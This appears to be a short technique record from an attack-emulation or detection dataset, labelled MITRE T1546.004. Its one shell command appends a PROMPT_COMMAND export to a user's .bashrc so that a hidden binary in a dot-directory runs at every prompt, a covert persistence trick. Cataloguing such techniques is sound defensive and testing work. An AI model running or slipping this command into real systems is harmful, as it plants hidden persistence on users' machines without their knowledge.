# technique: T1546.004
# location: linux.shell.user-profile
# source: /home/lea/.bashrc
# name: PROMPT_COMMAND
echo "export PROMPT_COMMAND='/home/lea/.local/share/.p/pw'" >> /home/lea/.bashrc
